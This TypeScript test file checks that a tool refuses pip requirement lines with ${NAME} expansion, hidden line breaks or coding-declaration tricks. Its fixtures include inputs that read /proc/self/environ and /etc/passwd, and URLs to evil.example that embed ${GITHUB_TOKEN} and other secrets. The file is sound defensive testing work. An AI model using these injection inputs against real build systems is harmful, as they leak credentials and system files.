// pip expands `${NAME}` (uppercase letters, digits, `_`) in every requirements line it reads, from
// its own environment: in the resolver, the container's. The readers refuse such a line where they
// read it, and a file pip would read as other lines than they do.
import { describe, expect, it } from 'vitest';
import { detect } from '../../../src/detect/index.js';
import { readCog } from '../../../src/detect/manifests/cog.js';
import { readConda } from '../../../src/detect/manifests/conda.js';
import { memoryReader } from '../../../src/project/reader.js';
import { parseRequirementsFile } from '../../../src/python/requirements.js';
import { formatSource } from '../../../src/source.js';
import { hasControlCharacters } from '../../../src/text.js';
import { userError } from '../helpers.js';

const REQ = 'requirements.txt';

/** The requirements file parsed, with a harmless in-project file at the path detect's own logic sees. */
function parse(text: string, more: Record<string, string> = {}) {
  return parseRequirementsFile(
    memoryReader({ [REQ]: text, 'proc/self/environ': 'numpy\n', 'base.txt': 'numpy\n', ...more }),
    REQ,
  );
}

function refusal(text: string, more: Record<string, string> = {}) {
  const error = userError(() => parse(text, more));
  return {
    where: error.source ? formatSource(error.source) : '',
    message: error.message,
    phase: error.phase,
  };
}

describe(`requirements files: \${NAME} that pip would expand`, () => {
  it(`refuses -r \${HOME}/../proc/self/environ, which detect alone reads as an in-project file`, () => {
    expect(refusal(`numpy\n-r \${HOME}/../proc/self/environ\n`)).toEqual({
      where: 'requirements.txt:2',
      message: `pip would expand \${HOME} from the resolver's environment, which this action does not hand to a project: write the value out: '-r \${HOME}/../proc/self/environ'`,
      phase: 'detect',
    });
  });

  it.each([
    [`-r \${ML_CONTAINER_INDEXES}`, `\${ML_CONTAINER_INDEXES}`],
    [`--requirement=\${HOME}/base.txt`, `\${HOME}`],
    [`-c \${HOME}/../base.txt`, `\${HOME}`],
    [`--constraint \${PWD}/base.txt`, `\${PWD}`],
    [`-f \${HOME}/wheels`, `\${HOME}`],
    [`pkg @ https://evil.example/\${ML_CONTAINER_INDEXES}`, `\${ML_CONTAINER_INDEXES}`],
    [`https://evil.example/pkg-1.0.tar.gz#egg=pkg&x=\${HOME}`, `\${HOME}`],
    [`git+https://evil.example/\${GITHUB_TOKEN}/pkg.git#egg=pkg`, `\${GITHUB_TOKEN}`],
    [`pkg==1.0 ; python_version > "\${PYTHON_1}"`, `\${PYTHON_1}`],
    [`pkg==1.0 --hash=sha256:\${HASH}`, `\${HASH}`],
    [`pkg==\${VERSION}`, `\${VERSION}`],
    [`pkg @ https://x.example/pkg.tar.gz#no-space-no-comment\${HOME}`, `\${HOME}`],
  ])('refuses %s at its line', (line, variable) => {
    const { where, message } = refusal(`# header\n${line}\n`);
    expect(where).toBe('requirements.txt:2');
    expect(message).toContain(`pip would expand ${variable} from the resolver's environment`);
  });

  it('looks at the line pip sees after joining continuations', () => {
    expect(refusal('numpy\n-r $\\\n{HOME}/../proc/self/environ\n').where).toBe('requirements.txt:2');
    expect(refusal(`pkg @ https://evil.example/\\\n\${HOME}\n`).where).toBe('requirements.txt:1');
  });

  it('refuses in an included file, at its own line', () => {
    expect(refusal('-r base.txt\n', { 'base.txt': `numpy\npkg @ https://x.example/\${HOME}\n` }).where).toBe(
      'base.txt:2',
    );
  });

  it('quotes the line cut short and escaped', () => {
    const { message } = refusal(`pkg @ https://x.example/\${HOME}/${'a'.repeat(500)}\n`);
    expect(message.length).toBeLessThan(300);
    expect(message).toMatch(/…'$/);
  });

  it.each([
    [`# pip would not expand \${HOME} in a comment\nnumpy\n`],
    [`numpy  # nor \${HOME} here\n`],
    [`numpy\n  # \${HOME}\n`],
    // pip expands ${NAME} with uppercase letters, digits and _ only.
    [`-r \${home}/base.txt\n`, Object.fromEntries([[`\${home}/base.txt`, 'numpy\n']])],
    ['-r $HOME/base.txt\n', { '$HOME/base.txt': 'numpy\n' }],
    [`-r \${Home}/base.txt\n`, Object.fromEntries([[`\${Home}/base.txt`, 'numpy\n']])],
    ['-r $\\{HOME}/base.txt\n', { '$\\{HOME}/base.txt': 'numpy\n' }],
  ])('leaves alone what pip does not expand: %j', (text, more: Record<string, string> = {}) => {
    expect(parse(text, more).requirements.map((requirement) => requirement.name)).toEqual(['numpy']);
  });

  it('keeps the index URL check and its advice for an index option', () => {
    const { where, message } = refusal(
      `--extra-index-url https://\${PIP_TOKEN}@pypi.example/simple\nnumpy\n`,
    );
    expect(where).toBe('requirements.txt:1');
    expect(message).toMatch(
      /^--extra-index-url uses \$\{PIP_TOKEN\}, an environment variable this action does not expand/,
    );
  });

  it('refuses through detect, for a project whose requirements.txt does it', () => {
    const error = userError(() =>
      detect(
        memoryReader({
          [REQ]: `numpy\n-r \${HOME}/../proc/self/environ\n`,
          'proc/self/environ': 'scipy\n',
          'predict.py': 'print(1)\n',
        }),
      ),
    );
    expect(error.located).toMatch(/^requirements\.txt:2: pip would expand \$\{HOME\}/);
  });
});

describe('requirements files that pip would read as other lines', () => {
  it.each([
    ['\\u0085', `numpy  # note\u0085-r \${HOME}/../proc/self/environ\n`, 1],
    ['\\u001c', 'numpy\n# note\u001c-r /etc/passwd\n', 2],
    ['\\u001d', 'numpy\n# \u001d-r x\n', 2],
    ['\\u001e', 'numpy\n# \u001e-r x\n', 2],
    ['\\u000b', 'numpy\n\n# \u000b-r x\n', 3],
    ['\\u000c', '# \u000c-r x\nnumpy\n', 1],
    ['\\u2028', 'numpy # \u2028-r x\n', 1],
    ['\\u2029', 'numpy # \u2029-r x\n', 1],
    ['\\r', `numpy # note\r-r \${HOME}/x\r\n`, 1],
  ])('refuses %s, a line break to Python, at its line', (escaped, text, line) => {
    const error = userError(() => parse(text));
    expect(error.source).toEqual({ file: REQ, line });
    expect(error.message).toBe(
      `pip reads '${escaped}' as a line break, which this action does not: end lines with \\n or \\r\\n only`,
    );
  });

  it('takes \\r\\n line endings, and a \\r that ends the file', () => {
    expect(parse('numpy\r\nscipy\r\n').requirements.map((r) => r.name)).toEqual(['numpy', 'scipy']);
    expect(parse('numpy\r').requirements.map((r) => r.name)).toEqual(['numpy']);
  });

  it('does not take U+FEFF for whitespace before a comment, as Python does not', () => {
    expect(refusal(`numpy\npkg @ https://x.example/a\ufeff#\${HOME}\n`).where).toBe('requirements.txt:2');
  });

  it('still reads a file that starts with a UTF-8 byte order mark, as pip does', () => {
    expect(parse('\ufeff# pinned\nnumpy\n').requirements.map((r) => r.name)).toEqual(['numpy']);
  });

  it.each([
    ['# -*- coding: utf-7 -*-\n-r +ACQAew-HOME+AH0-/../proc/self/environ\n', 1, 'utf-7'],
    ['numpy\n# coding=unicode_escape\n', 2, 'unicode_escape'],
    ['# vim: set fileencoding=latin-1 :\nnumpy\n', 1, 'latin-1'],
  ])('refuses a coding declaration pip would decode with: %j', (text, line, encoding) => {
    const error = userError(() => parse(text));
    expect(error.source).toEqual({ file: REQ, line });
    expect(error.message).toBe(
      `pip would decode this file as '${encoding}', as its coding declaration says, and read other text than this action checked: save it as UTF-8 without the declaration`,
    );
  });

  it.each([
    ['# -*- coding: utf-8 -*-\nnumpy\n'],
    ['# coding: UTF8\nnumpy\n'],
    ['# coding: ascii\nnumpy\n'],
    // Only the first two lines, and only comment lines, declare an encoding.
    ['numpy\nscipy\n# coding: utf-7\n'],
    // A byte order mark decides the encoding before any declaration.
    ['\ufeff# coding: latin-1\nnumpy\n'],
  ])('reads a file pip decodes as UTF-8: %j', (text) => {
    expect(parse(text).requirements.length).toBeGreaterThan(0);
  });
});

describe("conda's and cog's pip lists", () => {
  const conda = (...items: string[]) =>
    readConda(
      memoryReader({
        'environment.yml': `dependencies:\n  - python=3.11\n  - pip:\n${items.map((item) => `      - ${item}`).join('\n')}\n`,
        'proc/self/environ': 'numpy\n',
      }),
      'environment.yml',
    );
  const cog = (...items: string[]) =>
    readCog(
      memoryReader({
        'cog.yaml': `build:\n  python_packages:\n${items.map((item) => `    - ${item}`).join('\n')}\n`,
        'proc/self/environ': 'numpy\n',
      }),
      'cog.yaml',
    );

  it.each([
    [`"pkg @ https://evil.example/\${ML_CONTAINER_INDEXES}"`, `\${ML_CONTAINER_INDEXES}`],
    [`"https://evil.example/pkg.tar.gz#egg=pkg&\${HOME}"`, `\${HOME}`],
    [`'pkg ; python_version > "\${HOME}"'`, `\${HOME}`],
    [`"-r \${HOME}/../proc/self/environ"`, `\${HOME}`],
    [`"--pre pkg @ https://evil.example/\${HOME}"`, `\${HOME}`],
  ])('refuses %s in a conda pip: list, at its line', (item, variable) => {
    const error = userError(() => conda('numpy', item));
    expect(error.source).toEqual({ file: 'environment.yml', line: 5 });
    expect(error.message).toContain(`pip would expand ${variable} from the resolver's environment`);
  });

  it('refuses it in cog python_packages, at its line', () => {
    const error = userError(() => cog('numpy', `"pkg @ https://evil.example/\${HOME}"`));
    expect(error.located).toMatch(
      /^cog\.yaml:4: pip would expand \$\{HOME\} from the resolver's environment/,
    );
  });

  it("refuses it in cog's python_requirements file, at that file's line", () => {
    const error = userError(() =>
      readCog(
        memoryReader({
          'cog.yaml': 'build:\n  python_requirements: requirements.txt\n',
          [REQ]: `numpy\n-r \${HOME}/../proc/self/environ\n`,
          'proc/self/environ': 'numpy\n',
        }),
        'cog.yaml',
      ),
    );
    expect(error.located).toMatch(/^requirements\.txt:2: pip would expand \$\{HOME\}/);
  });

  it.each([
    ['"pkg @ https://x.example/a\\u0085-r /etc/passwd"'],
    ['"pkg @ https://x.example/a\\x1c-r /etc/passwd"'],
    ['"numpy\\n-r /etc/passwd"'],
  ])(
    'refuses a control character in an item, which the resolver would write into its pip file: %s',
    (item) => {
      const error = userError(() => conda(item));
      expect(error.source).toEqual({ file: 'environment.yml', line: 4 });
      expect(error.message).toMatch(/^a pip requirement is one line without control characters: '/);
      expect(hasControlCharacters(error.message)).toBe(false);
    },
  );

  it('keeps index URL options to their own check', () => {
    const error = userError(() => conda(`"--extra-index-url https://\${PIP_TOKEN}@pypi.example/simple"`));
    expect(error.message).toMatch(/^--extra-index-url uses \$\{PIP_TOKEN\}/);
  });

  it('reads what pip does not expand', () => {
    expect(
      conda('numpy', '"pkg @ https://x.example/$HOME/pkg.tar.gz"').requirements.map((r) => r.name),
    ).toEqual(['numpy', 'pkg']);
  });
});
